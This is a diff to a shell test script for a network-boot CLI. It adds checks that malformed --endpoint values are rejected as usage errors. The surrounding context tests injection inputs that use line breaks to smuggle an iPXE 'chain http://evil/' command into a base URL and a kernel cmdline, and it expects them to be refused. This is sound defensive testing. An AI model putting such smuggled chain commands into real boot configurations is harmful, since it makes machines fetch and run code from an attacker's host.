@@ -44,6 +44,16 @@ done
 cli push equinixmetal img --dir "$lk" --base-url $'http://x/\nchain http://evil/' --destination "$WORK/out"
 expect_eq "base URL with a line break: usage" 2 "$rc"
 
+# --- a malformed endpoint is a usage error (2), not "cannot connect" (3)
+for cmd in "group list" "select mac=52:54:00:00:00:01" "devices list --provider bootcfg"; do
+    for ep in foo://x http:// "unix:" "https://host/path"; do
+        # shellcheck disable=SC2086
+        cli $cmd --endpoint "$ep"
+        expect_eq "bootcfg $cmd --endpoint $ep: usage" 2 "$rc"
+        expect_contains "bootcfg $cmd --endpoint $ep: names the flag" "--endpoint" "$err"
+    done
+done
+
 # --- a cmdline with a line break: refused, no script
 printf 'console=ttyS0\nchain http://evil/x\nboot\n' >"$lk/img-cmdline"
 cli push equinixmetal img --dir "$lk" --base-url http://x/ --destination "$WORK/out"
